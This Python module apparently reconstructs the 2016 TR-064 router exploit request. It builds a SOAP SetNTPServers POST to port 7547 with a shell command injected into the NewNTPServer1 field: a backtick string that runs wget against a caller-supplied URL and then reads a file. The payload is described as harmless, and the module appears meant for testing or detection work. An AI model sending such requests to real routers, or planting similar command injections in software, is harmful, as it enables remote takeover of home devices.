"""The request of November 2016: LAN-side TR-064 sent to the CWMP port, a command inside a server's name.

The shape is that of the incidents eir-d1000-2016 and dt-speedport-2016; the command only reads a text file.
"""

from __future__ import annotations

__all__ = ["SOAP_ACTION", "request_of_2016"]

SOAP_ACTION = "urn:dslforum-org:service:Time:1#SetNTPServers"


def request_of_2016(url: str) -> tuple[bytes, str]:
    """The request of 2016 with a command that reads a file, and the injected value by itself."""
    value = f"`cd /tmp;wget {url};cat readme.txt`"
    rest = "".join(f"<NewNTPServer{number}></NewNTPServer{number}>" for number in range(2, 6))
    body = (
        '<?xml version="1.0"?><SOAP-ENV:Envelope '
        'xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
        'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><SOAP-ENV:Body>'
        f'<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>{value}</NewNTPServer1>'
        f"{rest}</u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"
    ).encode()
    head = (
        "POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\n"
        "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
        f"SOAPAction: {SOAP_ACTION}\r\nContent-Type: text/xml\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body, value
